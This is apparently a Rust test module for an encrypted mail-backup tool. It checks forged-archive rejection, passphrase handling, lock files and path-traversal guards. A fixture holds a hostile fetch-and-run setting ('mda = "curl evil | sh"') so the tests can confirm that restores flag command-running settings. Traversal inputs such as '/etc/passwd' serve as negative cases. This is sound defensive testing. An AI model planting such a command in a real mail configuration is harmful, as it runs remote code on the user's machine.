        let manifest = Manifest { format: FORMAT, chain: header.chain.clone(), seq: 1, files };
        let forged = dest.join(archive_name(header.created + 60, &header.chain, 1, false));
        forge(&forged, &serde_json::to_vec(&header).expect("json"), &manifest, &[("config/accounts.toml", accounts)]);
        let to = dir.path().join("r");
        let refused = restore(std::slice::from_ref(&forged), &to, &keys, &Quiet);
        assert!(matches!(&refused, Err(BackupError::Chain(m)) if m.contains("mixes")), "{refused:?}");
        assert!(!to.exists());
        assert!(matches!(verify(&[sealed.path.clone(), forged.clone()], &keys, &Quiet), Err(BackupError::Chain(_))));

        // A plain archive whose header claims it is encrypted: refused.
        header.encrypted = true;
        forge(&forged, &serde_json::to_vec(&header).expect("json"), &manifest, &[("config/accounts.toml", accounts)]);
        assert!(matches!(read_header(&forged, &keys), Err(BackupError::Refused(_))));

        // A header or manifest far larger than any real one: refused without reading it whole.
        let mut huge = serde_json::to_vec(&header).expect("json");
        huge.extend(std::iter::repeat_n(b' ', (MAX_HEADER + 10) as usize));
        forge(&forged, &huge, &manifest, &[]);
        assert!(
            matches!(read_header(&forged, &keys), Err(BackupError::Damaged { detail, .. }) if detail.contains("larger than"))
        );
        fs::remove_file(&forged).expect("remove");

        // A chain of its own (all plain) with such an accounts file restores, and says so.
        fs::write(dir.path().join("accounts.toml"), accounts).expect("accounts file");
        let mut own = sources.clone();
        own.push(Source {
            name: "config/accounts.toml".into(),
            path: dir.path().join("accounts.toml"),
            kind: SourceKind::File,
            content: Some(accounts.to_vec()),
        });
        let plain = create(
            &own,
            &CreateOptions {
                dest: dir.path().join("plain"),
                state_root: dir.path().join("c2"),
                encryption: Encryption::None,
                full: false,
                progress: &Quiet,
            },
        )
        .expect("backup");
        let restored = restore(std::slice::from_ref(&plain.path), &to, &keys, &Quiet).expect("restore");
        // Switching encryption on in that folder starts a new chain instead of mixing.
        let sealed_now = create(
            &own,
            &CreateOptions {
                dest: dir.path().join("plain"),
                state_root: dir.path().join("c2"),
                encryption: Encryption::Passphrase(pass.clone()),
                full: false,
                progress: &Quiet,
            },
        )
        .expect("backup");
        assert_eq!(sealed_now.seq, 0);
        assert_ne!(sealed_now.chain, plain.chain);
        assert_eq!(restored.commands, vec!["config/accounts.toml: deliver = { mda = \"curl evil | sh\" }".to_owned()]);
    }

    #[test]
    fn settings_that_run_commands_are_found() {
        let text = "# mda = \"commented out\"\n[accounts.a]\npassword_command = \"pass show mail\"\n\
                    name = \"x_command\"\ndeliver = { maildir = \"~/Mail\" }\n[accounts.b]\n\
                    deliver = { mda = \"procmail\" } # keeps it\n token_command=\"oama access me\"\n";
        assert_eq!(
            command_settings(text),
            vec![
                "password_command = \"pass show mail\"",
                "deliver = { mda = \"procmail\" } # keeps it",
                "token_command=\"oama access me\""
            ]
        );
    }

    #[test]
    fn passphrase_and_unencrypted_archives() {
        let dir = tempfile::tempdir().expect("tempdir");
        let sources = store(dir.path(), 3);
        let pass = SecretString::from("correct horse battery staple".to_owned());
        let mk = |encryption, dest: &str| {
            create(
                &sources,
                &CreateOptions {
                    dest: dir.path().join(dest),
                    state_root: dir.path().join("c"),
                    encryption,
                    full: false,
                    progress: &Quiet,
                },
            )
            .expect("backup")
        };
        let plain = mk(Encryption::None, "plain");
        assert!(plain.path.to_string_lossy().ends_with(".tar.zst"));
        let sealed = mk(Encryption::Passphrase(pass.clone()), "sealed");
        let asked = std::cell::Cell::new(0);
        let keys = Keys::new(vec![], || {
            asked.set(asked.get() + 1);
            Ok(pass.clone())
        });
        verify(&[plain.path.clone(), sealed.path.clone()], &keys, &Quiet).expect("verify");
        verify(std::slice::from_ref(&sealed.path), &keys, &Quiet).expect("verify");
        assert_eq!(asked.get(), 1, "the passphrase is asked for once");
        let wrong = Keys::new(vec![], || Ok(SecretString::from("not it at all".to_owned())));
        assert!(matches!(verify(std::slice::from_ref(&sealed.path), &wrong, &Quiet), Err(BackupError::WrongKey(_))));
        let identity_only = Keys::new(vec![age::x25519::Identity::generate()], no_passphrase);
        assert!(matches!(verify(std::slice::from_ref(&sealed.path), &identity_only, &Quiet), Err(BackupError::Key(_))));
    }

    #[test]
    fn one_backup_at_a_time_and_killed_runs_leave_nothing_behind() {
        let dir = tempfile::tempdir().expect("tempdir");
        let sources = store(dir.path(), 2);
        let dest = dir.path().join("b");
        fs::create_dir_all(&dest).expect("mkdir");
        let partial = dest.join(".pillarbox-20261126T000000Z-0a0b0c0d-000.tar.zst.age.Xy12z");
        fs::write(&partial, "half an archive").expect("write");
        let opts = CreateOptions {
            dest: dest.clone(),
            state_root: dir.path().join("c"),
            encryption: Encryption::None,
            full: false,
            progress: &Quiet,
        };
        let held = File::options().create(true).truncate(false).write(true).open(dest.join(LOCK_FILE)).expect("lock");
        held.lock().expect("lock");
        assert!(matches!(create(&sources, &opts), Err(BackupError::Refused(m)) if m.contains("another")));
        drop(held);
        create(&sources, &opts).expect("backup");
        assert!(!partial.exists());
        let names: Vec<_> = fs::read_dir(&dest).expect("read dir").flatten().map(|e| e.file_name()).collect();
        assert_eq!(names.len(), 2, "the archive and the lock file: {names:?}");
    }

    #[test]
    fn a_message_renamed_while_backing_up_is_found_under_its_new_name() {
        let dir = tempfile::tempdir().expect("tempdir");
        let sources = store(dir.path(), 2);
        let mut skipped = Vec::new();
        let found = walk(&sources[..1], &mut skipped).expect("walk");
        let listed = found.iter().find(|f| f.name == "mail/work/new/1.M1P1.host").expect("listed");
        // A mail reader marks it read: new/ -> cur/ with flags.
        let md = dir.path().join("Mail");
        fs::rename(md.join("new/1.M1P1.host"), md.join("cur/1.M1P1.host:2,S")).expect("rename");
        let again = moved_file(listed).expect("found again");
        assert_eq!(again.name, "mail/work/cur/1.M1P1.host:2,S");
        assert_eq!(again.path, md.join("cur/1.M1P1.host:2,S"));
        fs::remove_file(md.join("cur/1.M1P1.host:2,S")).expect("delete");
        assert!(moved_file(listed).is_none());
    }

    #[test]
    fn manifest_paths_stay_inside() {
        assert!(safe_relative("mail/work/cur/1:2,S").is_some());
        for bad in ["", "/etc/passwd", "../x", "mail/../../x", "./x"] {
            assert!(safe_relative(bad).is_none(), "{bad}");
        }
    }
}
